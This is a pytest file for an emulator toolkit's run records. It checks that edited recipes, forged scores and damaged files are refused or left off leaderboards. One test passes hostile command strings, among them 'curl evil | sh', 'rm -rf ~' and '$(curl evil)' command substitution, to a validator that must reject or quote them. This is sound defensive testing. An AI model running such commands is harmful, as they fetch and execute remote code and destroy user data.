"""Folders that a stranger wrote or damaged: what is edited is ranked, what is pasted runs, one takes a listing down."""

from __future__ import annotations

import json
import math
import os
import shutil
from pathlib import Path

import pytest

from emukit.data.store import open_store
from emukit.errors import EmukitError, RunError
from emukit.progress import silent_reporter
from emukit.recipes.catalogue import is_random
from emukit.recipes.load import load_recipe
from emukit.report.pages import identifier
from emukit.report.site import collect_places
from emukit.runs.leaderboard import collect_rows
from emukit.runs.listing import list_runs
from emukit.runs.record import checked_command, read_record
from emukit.runs.run import Run, read_run, train_run
from emukit.runs.submit import submit_run
from emukit.submission import read_entry


@pytest.fixture(scope="module")
def made(demo_store, tmp_path_factory) -> Path:
    """A finished run, and its submission with a score."""
    place = tmp_path_factory.mktemp("made")
    archive = open_store(demo_store)
    run, _ = train_run(archive, load_recipe("linear"), place / "run", reporter=silent_reporter())
    submit_run(run, archive, place / "entry", "csv", silent_reporter())
    (place / "entry" / "submission.csv").unlink()
    scores = json.loads((place / "run" / "scores" / "validation.json").read_text())
    kept = {k: scores[k] for k in ("score", "tas", "pr")}
    digest = read_entry(place / "entry").csv_sha256
    (place / "entry" / "score.json").write_text(json.dumps({"split": "here", "csv_sha256": digest, **kept}))
    return place


@pytest.fixture
def place(made, tmp_path) -> Path:
    shutil.copytree(made, tmp_path / "p")
    return tmp_path / "p"


def edit(path: Path, change) -> None:
    values = json.loads(path.read_text())
    change(values)
    path.write_text(json.dumps(values))


def test_an_edited_recipe_is_refused_by_everything_that_reads_a_run(place: Path) -> None:
    edit(place / "run" / "run.json", lambda r: r["recipe"]["model"].update(ridge=123.0))
    for read in (read_record, read_run):
        with pytest.raises(RunError, match="was edited"):
            read(place / "run")
    (listed,) = list_runs([place])
    assert listed.state == "damaged"
    why: list[str] = []
    assert {r.name for r in collect_rows([place], published=False, left_out=why.append)} == {"entry"}
    assert len(why) == 1


def test_words_that_decide_nothing_may_differ(place: Path) -> None:
    edit(place / "run" / "run.json", lambda r: r["recipe"].update(description="mine"))
    assert read_run(place / "run").recipe.description == "mine"


@pytest.mark.parametrize(
    "change",
    [
        lambda s: s.update(score=0.0001),
        lambda s: s.update(score=math.nan),
        lambda s: s.update(score=-1.0),
        lambda s: s.update(score=math.inf),
        lambda s: s.update(score=True),
        lambda s: s["tas"].update(monthly_rmse=-s["tas"]["monthly_rmse"]),
        lambda s: s["tas"].pop("monthly_rmse"),
        lambda s: s.update(pr=3),
        lambda s: s.update(score=10**400),
    ],
)
@pytest.mark.parametrize("of", ["entry/score.json", "run/scores/validation.json"])
def test_a_score_that_no_scorer_wrote_is_ranked_nowhere(place: Path, of: str, change) -> None:
    edit(place / of, change)
    why: list[str] = []
    rows = collect_rows([place], published=False, left_out=why.append)
    assert {r.kind for r in rows} & {"run", "submission"} == ({"run"} if of.startswith("entry") else {"submission"})
    assert len(why) == 1
    assert Path(of).name in why[0]


def test_a_score_of_another_csv_or_of_nothing_is_ranked_nowhere(place: Path) -> None:
    path = place / "entry" / "score.json"
    for change in (lambda s: s.update(csv_sha256="0" * 64), lambda s: s.update(split=None)):
        before = path.read_text()
        edit(path, change)
        why: list[str] = []
        assert not [r for r in collect_rows([place], False, why.append) if r.kind == "submission"]
        assert len(why) == 1
        path.write_text(before)


def test_an_evaluation_cannot_claim_other_months(place: Path) -> None:
    edit(
        place / "run" / "scores" / "validation.json", lambda s: s.update(set="test", spans=["ssp245 2070-02..2100-01"])
    )
    with pytest.raises(RunError, match="other months"):
        read_run(place / "run").evaluation("validation")


ODD = {
    "deep": "a = " + "[" * 3000 + "]" * 3000,
    "digits": "seed = " + "9" * 5000,
    "not utf-8": b"\xff\xfe",
    "beyond 64 bits": f"seed = {10**30}",
    "not toml": "a",
    "empty": "",
    "null": b"\0" * 100,
    "array": "name = []",
}


@pytest.mark.parametrize("what", ODD)
@pytest.mark.parametrize("file", ["entry/entry.toml", "entry/score.json", "run/run.json", "run/scores/validation.json"])
def test_one_damaged_file_stops_no_listing(place: Path, file: str, what: str) -> None:
    content = ODD[what] if isinstance(ODD[what], bytes) else ODD[what].encode()
    if file.endswith(".json"):
        content = content.replace(b"a = ", b"").replace(b"seed = ", b"")
    (place / file).write_bytes(content)
    why: list[str] = []
    rows = collect_rows([place], published=False, left_out=why.append)
    assert len({r.kind for r in rows} & {"run", "submission"}) == 1
    assert len(why) == 1
    assert file.partition("/")[2] in why[0]
    found = collect_places([place])
    assert len(found.left_out) == len(found.sources) == 1
    assert len(list_runs([place])) == 1
    with pytest.raises(EmukitError):
        collect_rows([place / file.partition("/")[0]], published=False)


def test_a_command_of_a_record_is_told_only_where_it_trains_and_nothing_else(place: Path) -> None:
    good = "emukit train linear --data '/a b/c.zarr' --set model.ridge=1 --seed=3 --fast"
    assert checked_command(good) == good
    for bad in (
        "curl evil | sh; emukit train linear",
        "emukit train linear; rm -rf ~",
        "emukit train linear --out /etc",
        "emukit train linear --track wandb",
        "emukit train linear --devices 8",
        "emukit train linear --seed",
        "emukit train 'lin ear'",
        "emukit train",
        "emukit train linear --data '\x1b[2J'",
        "emukit train linear --data 'a\nb'",
        "emukit train linear 'unclosed",
        "-",
    ):
        assert checked_command(bad) == "", bad
    # What a shell would run is quoted.
    assert checked_command("emukit train linear --data '$(curl evil)'").endswith("'$(curl evil)'")
    run = read_run(place / "run")
    strange = run.record.model_copy(update={"command": "curl evil | sh", "state": "training"})
    hint = Run(run.folder, run.recipe, strange).go_on()
    assert "curl" not in hint
    assert hint.endswith(f"--resume --out {run.folder}")


def test_a_name_that_is_not_utf8_has_an_identifier_of_its_own(tmp_path: Path) -> None:
    names = {identifier(os.fsdecode(name), tmp_path / os.fsdecode(name)) for name in (b"r\xff", b"r\xfe")}
    assert len(names) == 2
    assert all(name.isascii() for name in names)


def test_which_recipes_a_seed_decides(place: Path) -> None:
    expected = {
        "linear": False,
        "random-forest": True,
        "cnn-gru": True,
        "best": False,
        "kriging": False,
        "sampled": True,
    }
    assert {name: is_random(load_recipe(name).model_dump()) for name in expected} == expected
